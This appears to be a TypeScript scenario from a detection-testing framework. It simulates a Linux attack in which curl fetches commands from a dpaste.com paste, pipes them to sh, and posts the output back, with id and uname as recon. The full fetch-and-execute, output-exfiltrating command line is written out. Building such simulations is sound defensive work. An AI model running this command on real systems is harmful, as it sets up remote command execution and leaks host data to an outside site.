/**
 * Public tradecraft (Linux): a cron line or dropper runs
 * `curl paste | sh | curl -F 'content=<-' paste-api`: the commands come from a paste and
 * their output goes back to the paste site. The shell starts both curls and the inner `sh`
 * at the same moment, so their audit records interleave.
 */

import type { Scenario } from './scenario.js';

export const pasteShellLoop: Scenario = {
  id: 'paste-shell-loop',
  title: 'curl piping a dpaste.com paste to sh and posting the output back',
  platform: 'linux',
  origin: 'public tradecraft: paste sites as a command channel',
  expect: { fileName: 'curl', host: 'dpaste.com' },
  build(w, fleet, t) {
    const base = fleet.linux.get(fleet.victim)!;
    const paste = w.rng.token(9, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789');
    const fetch = `https://dpaste.com/${paste}.txt`;
    const post = 'https://dpaste.com/api/v2/';
    const line = `curl -fsSL ${fetch} | sh | curl -s -F "content=<-" ${post}`;
    const sh = w.spawn(t, base.shell, '/usr/bin/dash', ['sh', '-c', line]);
    const get = w.spawn(t + 1, sh, '/usr/bin/curl', ['curl', '-fsSL', fetch]);
    const inner = w.spawn(t + 1, sh, '/usr/bin/dash', ['sh']);
    const send = w.spawn(t + 2, sh, '/usr/bin/curl', ['curl', '-s', '-F', 'content=<-', post]);
    const fetched = w.reach(t + 6, get, 'dpaste.com', 443, { nonBlocking: true });
    w.spawn(fetched + 210, inner, '/usr/bin/id', ['id']);
    w.spawn(fetched + 214, inner, '/usr/bin/uname', ['uname', '-a']);
    w.reach(fetched + 230, send, 'dpaste.com', 443, { nonBlocking: true });
  },
};
